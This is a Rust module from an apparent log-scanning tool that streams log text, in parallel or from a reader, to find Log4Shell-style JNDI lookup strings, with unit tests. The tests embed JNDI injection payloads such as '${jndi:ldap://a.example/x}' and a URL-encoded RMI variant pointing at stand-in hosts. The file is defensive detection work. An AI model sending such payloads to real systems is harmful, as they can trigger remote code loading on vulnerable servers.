//! Streams log text through a [`Hunter`]: from a byte slice (optionally in parallel, split at
//! newlines) or from any [`BufRead`]. The prefilter runs over whole buffers, not per line, and
//! line boundaries are only looked up around candidates.

use std::io::{BufRead, ErrorKind};

use rayon::prelude::*;
use serde::Serialize;

use super::{Hit, HuntError, Hunter};

/// Totals of one scan.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct ScanSummary {
    /// Lines scanned (a last line without newline counts).
    pub lines: u64,
    /// Bytes scanned.
    pub bytes: u64,
    /// Hits reported.
    pub hits: u64,
    /// Hits matched by the suppression list (dropped unless `keep_suppressed`).
    pub suppressed: u64,
}

impl ScanSummary {
    /// Adds another scan's totals to these.
    pub(crate) fn add(&mut self, other: &ScanSummary) {
        self.lines += other.lines;
        self.bytes += other.bytes;
        self.hits += other.hits;
        self.suppressed += other.suppressed;
    }
}

/// Bytes a reader is read in before candidates are searched; also the parallel split size.
const CHUNK_BYTES: usize = 256 << 10;

/// Hits a chunk's vector has room for once it gets its first: a chunk of a log full of attacks
/// holds about a hundred.
const HITS_RESERVED: usize = 128;

/// Counts `\n` bytes. Line numbers need every newline counted, so this runs over every byte:
/// `bytecount` does it with SIMD compares (AVX2 where the CPU has it), several times faster
/// than iterating over `memchr` matches, which pays per newline.
fn count_newlines(bytes: &[u8]) -> u64 {
    bytecount::count(bytes, b'\n') as u64
}

impl Hunter {
    /// Scans `data` as newline-separated lines, calling `on_hit` in input order.
    pub fn scan_bytes(&self, data: &[u8], mut on_hit: impl FnMut(Hit)) -> ScanSummary {
        self.scan_chunk(data, 0, 0, &mut on_hit)
    }

    /// Scans `data` on all rayon threads, split at newlines; hits come back in input order.
    pub fn scan_bytes_parallel(&self, data: &[u8]) -> (Vec<Hit>, ScanSummary) {
        let mut chunks = Vec::new();
        let mut start = 0;
        while start < data.len() {
            let mut end = (start + CHUNK_BYTES).min(data.len());
            if end < data.len() {
                end = memchr::memchr(b'\n', &data[end..]).map_or(data.len(), |i| end + i + 1);
            }
            chunks.push((start, &data[start..end]));
            start = end;
        }
        let results: Vec<(Vec<Hit>, ScanSummary)> = chunks
            .par_iter()
            .map(|&(offset, chunk)| {
                let mut hits = Vec::new();
                let summary = self.scan_chunk(chunk, 0, offset as u64, &mut |hit| {
                    // Hits are large: room for a chunk's worth of an attack campaign at once
                    // rather than copying them each time the vector doubles.
                    if hits.capacity() == 0 {
                        hits.reserve(HITS_RESERVED);
                    }
                    hits.push(hit);
                });
                (hits, summary)
            })
            .collect();
        // Sized at once: grown by doubling, the hits of a segment were copied several times
        // into ever fresher (and freshly cleared) memory.
        let mut all = Vec::with_capacity(results.iter().map(|(hits, _)| hits.len()).sum());
        let mut total = ScanSummary::default();
        for (hits, summary) in results {
            all.extend(hits.into_iter().map(|mut hit| {
                hit.line_number += total.lines;
                hit
            }));
            total.add(&summary);
        }
        (all, total)
    }

    /// Scans a stream line by line in large blocks, calling `on_hit` in input order.
    ///
    /// Lines longer than `max_line_bytes` are scanned in pieces that share one line number.
    pub fn scan_reader<R: BufRead>(
        &self,
        mut reader: R,
        mut on_hit: impl FnMut(Hit),
    ) -> Result<ScanSummary, HuntError> {
        let mut total = ScanSummary::default();
        let mut pending: Vec<u8> = Vec::with_capacity(2 * CHUNK_BYTES);
        loop {
            let available = match reader.fill_buf() {
                Ok(available) => available,
                Err(error) if error.kind() == ErrorKind::Interrupted => continue,
                Err(source) => {
                    return Err(HuntError::Read {
                        line_number: total.lines,
                        source,
                    });
                }
            };
            if available.is_empty() {
                break;
            }
            pending.extend_from_slice(available);
            let consumed = available.len();
            reader.consume(consumed);
            if pending.len() < CHUNK_BYTES {
                continue;
            }
            if let Some(last_newline) = memchr::memrchr(b'\n', &pending) {
                let summary = self.scan_chunk(
                    &pending[..=last_newline],
                    total.lines,
                    total.bytes,
                    &mut on_hit,
                );
                total.add(&summary);
                pending.drain(..=last_newline);
            } else if pending.len() >= self.config.max_line_bytes {
                let mut summary = self.scan_chunk(&pending, total.lines, total.bytes, &mut on_hit);
                // The line goes on in the next piece: count it once, when it ends.
                summary.lines -= 1;
                total.add(&summary);
                pending.clear();
            }
        }
        if !pending.is_empty() {
            let summary = self.scan_chunk(&pending, total.lines, total.bytes, &mut on_hit);
            total.add(&summary);
        }
        Ok(total)
    }

    /// Scans whole lines in `data`, numbering them after `lines_before` and placing them after
    /// `offset_before` bytes.
    fn scan_chunk(
        &self,
        data: &[u8],
        lines_before: u64,
        offset_before: u64,
        on_hit: &mut dyn FnMut(Hit),
    ) -> ScanSummary {
        let mut summary = ScanSummary {
            bytes: data.len() as u64,
            ..ScanSummary::default()
        };
        let mut pos = 0;
        let mut counted_to = 0;
        let mut line_index = lines_before;
        let mut candidates = self.prefilter.candidates(data);
        let mut findings = Vec::new();
        while pos < data.len() {
            let Some(candidate) = candidates.next_from(pos) else {
                break;
            };
            let line_start =
                memchr::memrchr(b'\n', &data[pos..candidate]).map_or(pos, |i| pos + i + 1);
            let line_end =
                memchr::memchr(b'\n', &data[candidate..]).map_or(data.len(), |i| candidate + i);
            line_index += count_newlines(&data[counted_to..line_start]);
            counted_to = line_start;
            let (hits, suppressed) = self.line_hits(
                &data[line_start..line_end],
                line_index + 1,
                offset_before + line_start as u64,
                &mut findings,
                on_hit,
            );
            summary.hits += hits;
            summary.suppressed += suppressed;
            pos = line_end + 1;
        }
        let newlines = line_index - lines_before + count_newlines(&data[counted_to..]);
        let unterminated = data.last().is_some_and(|&b| b != b'\n');
        summary.lines = newlines + u64::from(unterminated);
        summary
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hunt::HunterConfig;

    const LOG: &str = "clean line\n\
        second ${jndi:ldap://a.example/x}\n\
        price $5\n\
        \n\
        fifth %24%7Bjndi:rmi://b.example/y%7D";

    fn positions(hits: &[Hit]) -> Vec<(u64, u64, Option<&str>)> {
        hits.iter()
            .map(|h| (h.line_number, h.byte_offset, h.target_host.as_deref()))
            .collect()
    }

    #[test]
    fn newlines_are_counted_in_every_block_size() {
        for len in [0, 1, 7, 8, 9, 31, 32, 33, 8161, 70_000] {
            let text: Vec<u8> = (0..len)
                .map(|i| match i % 7 {
                    0 => b'\n',
                    1 => 0x8a,
                    2 => 0x0b,
                    _ => b'x',
                })
                .collect();
            let expected = text.iter().filter(|&&b| b == b'\n').count() as u64;
            assert_eq!(count_newlines(&text), expected, "{len}");
        }
        assert_eq!(count_newlines(&[b'\n'; 100_000]), 100_000);
    }

    #[test]
    fn line_numbers_and_offsets() {
        let mut hits = Vec::new();
        let summary = Hunter::default().scan_bytes(LOG.as_bytes(), |h| hits.push(h));
        let fifth = LOG.find("fifth").unwrap() as u64;
        assert_eq!(
            positions(&hits),
            [(2, 11, Some("a.example")), (5, fifth, Some("b.example"))]
        );
        assert_eq!(
            summary,
            ScanSummary {
                lines: 5,
                bytes: LOG.len() as u64,
                hits: 2,
                suppressed: 0
            }
        );
    }

    #[test]
    fn reader_and_parallel_agree_with_slices_over_chunk_borders() {
        let mut log = String::new();
        for i in 0..60_000 {
            if i % 7_919 == 0 {
                log.push_str(&format!("{i} ${{jndi:ldap://h{i}.example/a}}\n"));
            } else {
                log.push_str(
                    "10.0.0.1 - - [10/Dec/2021] \"GET /static/app.js HTTP/1.1\" 200 1234\n",
                );
            }
        }
        let hunter = Hunter::default();
        let mut sequential = Vec::new();
        let summary = hunter.scan_bytes(log.as_bytes(), |h| sequential.push(h));
        let mut streamed = Vec::new();
        let reader = std::io::BufReader::with_capacity(4096, log.as_bytes());
        let streamed_summary = hunter.scan_reader(reader, |h| streamed.push(h)).unwrap();
        let (parallel, parallel_summary) = hunter.scan_bytes_parallel(log.as_bytes());
        assert_eq!(sequential.len(), 8);
        assert_eq!(sequential[1].line_number, 7_920);
        assert_eq!(sequential, streamed);
        assert_eq!(sequential, parallel);
        assert_eq!(summary, streamed_summary);
        assert_eq!(summary, parallel_summary);
        assert_eq!(summary.lines, 60_000);
    }

    #[test]
    fn overlong_lines_are_scanned_in_pieces() {
        let config = HunterConfig {
            max_line_bytes: 1 << 20,
            ..HunterConfig::default()
        };
        let mut log = "x".repeat(3 << 20);
        log.push_str(" ${jndi:ldap://tail.example/a}\nnext\n");
        let mut hits = Vec::new();
        let summary = Hunter::new(config)
            .scan_reader(log.as_bytes(), |h| hits.push(h))
            .unwrap();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].line_number, 1);
        assert_eq!(summary.lines, 2);
    }

    #[test]
    fn read_errors_name_the_line() {
        struct Failing;
        impl std::io::Read for Failing {
            fn read(&mut self, _: &mut [u8]) -> std::io::Result<usize> {
                Err(std::io::Error::other("disk gone"))
            }
        }
        let err = Hunter::default()
            .scan_reader(std::io::BufReader::new(Failing), |_| {})
            .unwrap_err();
        assert!(err.to_string().contains("after line 0"));
    }
}
